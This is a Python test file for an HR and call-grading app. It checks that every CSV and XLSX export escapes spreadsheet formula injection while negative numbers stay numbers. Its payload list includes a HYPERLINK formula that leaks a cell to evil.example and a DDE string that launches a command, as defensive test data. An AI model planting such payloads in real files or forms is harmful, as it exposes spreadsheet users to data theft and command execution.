"""Every file the app lets people download, and every file the command line writes, is safe to
open in a spreadsheet: names and reasons that look like formulas are shown, never run, while real
numbers stay numbers.

The payloads go where people type: employee, team and department names, and the reasons of
nominations, overrides, calibrations and corrections."""

from __future__ import annotations

import base64
import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from openpyxl import load_workbook
from test_permissions import MATRIX, ROUTES, _url
from test_permissions import objects as objects

from callgrade.baseline.models import BaselineReport
from callgrade.cycles.models import Calibration, Decision, PayLine, ProgramSnapshot, ScoreTotal
from callgrade.engagement.models import Suggestion
from callgrade.engine.cells import is_risky, safe
from callgrade.loads.models import Load
from callgrade.loads.services.loads import REJECT_COLUMNS, load_dir
from callgrade.output import write_table
from callgrade.people.models import Correction, Department, Employee, Team
from callgrade.review.models import Nomination

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
RISKY = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
DOWNLOADS = sorted(n for n in MATRIX if n.endswith(("_csv", "_xlsx")))


def _dangerous(text: str) -> bool:
    stripped = text.lstrip(" \u3000\xa0")
    return stripped.startswith(RISKY) and not NUMBER.fullmatch(text.strip())


def _xlsx_problems(data: bytes) -> tuple[list[str], list[Any]]:
    """Formula cells and text that would run, and every cell value (to check what was there)."""
    wb = load_workbook(io.BytesIO(data))
    problems, values = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                values.append(cell.value)
                if cell.data_type == "f":
                    problems.append(f"{ws.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and _dangerous(cell.value):
                    problems.append(f"{ws.title}!{cell.coordinate} text {cell.value!r}")
    return problems, values


def _csv_problems(data: bytes) -> tuple[list[str], list[Any]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    values = [v for r in rows for v in r]
    return [repr(v) for v in values if _dangerous(v)], values


def _plant_data(objects: dict[str, Any]) -> None:
    """Payloads that arrive in data rather than in a form: a team as an imported roster names
    it (the current-state report), a level code as a standard's author typed it (the program
    dashboard), a rejected record as the source file wrote it (a load's rejects)."""
    report = BaselineReport.objects.get(pk=objects["report_id"])
    teams = [r for r in report.result["staffing"] if r["dimension"] == "team"]
    for row, payload in zip(teams, PAYLOADS, strict=False):
        row["group"] = payload
    report.save(update_fields=["result"])
    for snap in ProgramSnapshot.objects.all():
        snap.ladders = {p: [*levels, PAYLOADS[1]] for p, levels in snap.ladders.items()}
        snap.save(update_fields=["ladders"])
    folder = load_dir(Load.objects.get(pk=objects["load_id"]))
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "rejects.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=REJECT_COLUMNS)
        w.writeheader()
        for i, payload in enumerate(PAYLOADS, start=2):
            w.writerow({"line": i, "field": "event", "reason": payload, "raw": safe(payload)})


def _plant(cycle: Any, hr: Any, lead: Any) -> list[str]:
    """Put every payload where people type text; returns the escaped forms expected."""
    employees = list(Employee.objects.exclude(user__isnull=False).order_by("employee_id"))
    for emp, payload in zip(employees, PAYLOADS, strict=False):
        emp.name = payload
        emp.save(update_fields=["name"])
    control = employees[len(PAYLOADS)]
    # characters a workbook cannot hold are dropped, no crash (PostgreSQL stores no NUL: \x01)
    control.name = "Bell\x07 Start\x01 Name"
    control.save(update_fields=["name"])
    Team.objects.filter(pk=employees[0].team_id).update(name="@team")
    Department.objects.filter(pk=Department.objects.first().pk).update(name="-dept+1")
    totals = ScoreTotal.objects.filter(cycle=cycle).select_related("employee")
    for total, payload in zip(totals.order_by("employee_id", "period"), PAYLOADS, strict=False):
        Calibration.objects.update_or_create(
            cycle=cycle,
            employee=total.employee,
            period=total.period,
            defaults={"rating": total.rating, "reason": payload, "by": hr},
        )
    for decision, payload in zip(Decision.objects.filter(cycle=cycle), PAYLOADS, strict=False):
        decision.final_level = decision.level_to + "x"
        decision.final_reason = payload
        decision.save(update_fields=["final_level", "final_reason"])
    for emp, payload in zip(employees, PAYLOADS, strict=False):
        Nomination.objects.create(
            cycle=cycle, employee=emp, level_to="senior", reason=payload, nominated_by=lead
        )
        Correction.objects.create(
            employee=emp,
            target_table="qa_evaluations",
            record_id=payload,
            field="score",
            value=payload,
            before=payload,
            reason=payload,
            by=hr,
        )
    for emp, payload in zip(employees, PAYLOADS, strict=False):
        Suggestion.objects.create(
            title=payload, text=payload, category="other", submitter=emp, answer=payload
        )
    from callgrade.development.models import Course

    for course, payload in zip(Course.objects.order_by("pk"), PAYLOADS, strict=False):
        course.title_en = course.title_zh = payload
        course.save(update_fields=["title_en", "title_zh"])
    # what trainees wrote reaches the training report's feedback sheet
    from callgrade.development.models import FeedbackAnswer

    for answer, payload in zip(
        FeedbackAnswer.objects.exclude(text="").order_by("pk"), PAYLOADS, strict=False
    ):
        answer.text = payload
        answer.save(update_fields=["text"])
    # A deduction: a negative amount must stay a number.
    line = PayLine.objects.filter(cycle=cycle).first()
    assert line is not None
    PayLine.objects.create(
        cycle=cycle,
        employee=line.employee,
        period=line.period,
        kind="deduction",
        code="-fine",
        amount=Decimal("-12.50"),
        cash=True,
        explanation="=1+1",
        detail={},
    )
    return [safe(p) for p in PAYLOADS]


@pytest.fixture
def planted(objects: dict[str, Any], demo_cycle: Any, hr: Any, lead: Any) -> list[str]:
    _plant_data(objects)
    return _plant(demo_cycle, hr, lead)


def test_every_download_route_is_checked() -> None:
    assert {
        "cycle_departures_xlsx",
        "cycle_pay_xlsx",
        "cycle_pay_csv",
        "standard_acknowledgements_xlsx",
        "org_employees_export_csv",
        "org_employees_export_xlsx",
        "corrections_csv",
        "corrections_xlsx",
        "suggestions_xlsx",
    } <= set(DOWNLOADS)


@pytest.mark.parametrize("name", DOWNLOADS)
def test_downloads_run_no_formula(
    name: str, planted: list[str], objects: dict[str, Any], login: Any, hr: Any
) -> None:
    c = login(hr)
    for lang in ("en", "zh-hans"):
        r = c.get(_url(ROUTES[name], objects), HTTP_ACCEPT_LANGUAGE=lang)
        assert r.status_code == 200, f"{name}: {r.status_code}"
        if name.endswith("_xlsx"):
            problems, values = _xlsx_problems(r.content)
        else:
            problems, values = _csv_problems(r.content)
        assert not problems, f"{name}: {problems}"
        # The payloads were in the file, escaped, so the check above had something to check.
        assert set(planted) & set(values), f"{name}: no planted text in the file"
    if name.startswith("cycle_pay"):
        # The deduction is still a number: a number cell in XLSX, a plain number in CSV.
        if name.endswith("_xlsx"):
            assert Decimal("-12.5") in {Decimal(str(v)) for v in values if isinstance(v, float)}
        else:
            assert "-12.50" in values


def test_the_password_sheet_runs_no_formula(planted: list[str], login: Any, hr: Any) -> None:
    r = login(hr).post("/org/logins/", {})
    assert r.status_code == 200
    page = r.content.decode()
    sheets = dict(re.findall(r'href="data:([^;]+);[^"]*base64,([^"]+)"', page))
    assert len(sheets) == 2, sheets.keys()
    for kind, body in sheets.items():
        data = base64.b64decode(body)
        check = _csv_problems if kind == "text/csv" else _xlsx_problems
        problems, values = check(data)
        assert not problems, f"{kind}: {problems}"
        assert set(planted) & set(values)


# --- the command line's files -------------------------------------------------------------------


def test_command_line_outputs_run_no_formula(tmp_path: Path) -> None:
    table = pa.table(
        {
            "agent": PAYLOADS,
            "value": [-2.5, 1.0, -3.0, 0.0, 4.0, -1.0, 2.0, 3.0, -0.25],
            "count": list(range(-4, 5)),
        }
    )
    write_table(table, "xlsx", tmp_path / "k.xlsx")
    problems, values = _xlsx_problems((tmp_path / "k.xlsx").read_bytes())
    assert not problems and "'=1+1" in values
    assert -2.5 in values and -4 in values  # numbers stay number cells
    write_table(table, "csv", tmp_path / "k.csv")
    problems, values = _csv_problems((tmp_path / "k.csv").read_bytes())
    assert not problems and "'=1+1" in values and "-2.5" in values and "-4" in values


def test_the_rejects_file_runs_no_formula(tmp_path: Path) -> None:
    from callgrade.engine.warehouse import Warehouse

    rejects = pa.table({"line": [1, 2], "raw": ["=1+1", "-2+3"], "reason": ["@x", "ok"]})
    path = Warehouse(tmp_path).write_rejects("src.log", rejects)
    assert path is not None
    problems, values = _csv_problems(path.read_bytes())
    assert not problems and "'=1+1" in values


@pytest.mark.parametrize("text", [*PAYLOADS[:5], "＝1", "-12.50", "+1", "1e5", "plain", ""])
def test_escaping_round_trips_through_an_import(text: str) -> None:
    from callgrade.core.tabular import _cell

    assert not is_risky(safe(text))
    assert _cell(safe(text)) == text


# Files that write spreadsheets: the helper itself and what writes every row through it. The demo
# writes source-system files (the PBX's, the HR system's) that the connectors read back as they are.
WRITERS = {
    "engine/cells.py",
    "core/tabular.py",
    "cycles/payroll.py",
    "output.py",
    "engine/demo/__init__.py",
    "engine/demo/writers.py",
    "engine/demo/telephony.py",
    # a database pull hands its rows to the queue_log_db connector as that table's export
    "engine/pull.py",
    # records posted to the API, handed to the mapped connector as the file it reads
    "loads/services/records.py",
}


def test_no_spreadsheet_is_written_around_the_helper() -> None:
    import callgrade

    src = Path(callgrade.__file__).parent
    pattern = re.compile(r"csv\.writer\(|Workbook\(|write_csv\(|\.to_csv\(")
    found = {
        str(p.relative_to(src)) for p in src.rglob("*.py") if pattern.search(p.read_text("utf-8"))
    }
    assert found <= WRITERS, f"write through core.tabular / engine.cells: {found - WRITERS}"
    for name in ("cycles/payroll.py", "output.py"):
        text = (src / name).read_text("utf-8")
        appends = re.findall(r"\b(?:ws|detail)\.append\((.*)\)", text)
        assert appends and all(a.startswith("xlsx_row(") for a in appends), (name, appends)
